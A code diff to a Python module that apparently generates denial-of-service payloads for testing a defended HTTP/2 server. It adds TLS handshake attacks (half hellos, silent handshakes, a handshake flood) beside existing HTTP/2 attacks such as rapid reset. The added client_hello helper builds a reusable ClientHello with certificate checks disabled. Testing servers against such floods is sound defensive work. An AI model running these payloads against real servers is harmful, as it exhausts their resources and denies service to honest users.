@@ -3,6 +3,7 @@
 What is sent is made before the clock runs, so that the attacker costs the machine little and hurts the server much.
 """
 
+import ssl
 import struct
 
 from wire import (ACK, CHECK, CONTINUATION, DATA, EMPTY_MESSAGE, END_HEADERS, END_STREAM, HEADERS, HELLO, PING, PREFACE,
@@ -22,7 +23,7 @@ def repeated(one):
 
 class Attack:
     def __init__(self, why, body=b"", hello=HELLO, conns=4, reads=True, every_s=0.0, receive_bytes=None, loop=True,
-                 answered=False, each_ms=0.15):
+                 answered=False, each_ms=0.15, tls=False, hangs_up=False):
         self.why = why  # the label of the close, or the refusal, that the defended server counts; None: none is due
         self.hello, self.body, self.conns, self.reads = hello, body, conns, reads
         self.every_s = every_s  # a byte at a time, so often; 0: as fast as it goes
@@ -30,6 +31,8 @@ class Attack:
         self.answered = answered  # a whole answer is due to the first stream
         # What each end that the defence makes may cost: without it the attacker is stuck in its first connections.
         self.each_ms = each_ms
+        self.tls = tls  # at the port with TLS, beside honest clients that use it
+        self.hangs_up = hangs_up  # at the first byte that comes, and begins anew at once
         self.loop = loop  # the body is sent again and again; else once, and the connection is held
 
 
@@ -64,6 +67,19 @@ def reflection(streams, messages):
                     for i in range(1, 2 * streams, 2))
 
 
+def client_hello():
+    """One that is good for any number of handshakes: the server works for each, the attacker for none."""
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    context.set_alpn_protocols(["h2"])
+    to_server = ssl.MemoryBIO()
+    try:
+        context.wrap_bio(ssl.MemoryBIO(), to_server).do_handshake()
+    except ssl.SSLWantReadError:
+        pass
+    return to_server.read()
+
+
 ATTACKS = {
     "rapid reset": Attack("resets", each_stream(lambda i: small_request(i, END_HEADERS) + frame(RST, 0, i, CANCEL))),
     "made you reset": Attack("resets", each_stream(lambda i: small_request(i) + window(i, WINDOW_MAX) * 2)),
@@ -94,4 +110,8 @@ ATTACKS = {
                           + b"\0\x20\0\0\0\0\0\0\1" + b"\0\0\0\x20\0", conns=300, every_s=0.2, answered=True),
     "silent connections": Attack("conns|preface", b"", b"", conns=2500, loop=False),
     "half prefaces": Attack("conns|preface", b"", PREFACE[:10], conns=1500, loop=False),
+    "half TLS hellos": Attack("handshakes", b"", client_hello()[:100], conns=1500, loop=False, tls=True),
+    "silent TLS handshakes": Attack("handshakes", b"", client_hello(), conns=1500, loop=False, tls=True, each_ms=1),
+    "TLS handshake flood": Attack("handshake", b"", client_hello(), conns=64, loop=False, tls=True, each_ms=1,
+                                  hangs_up=True),
 }
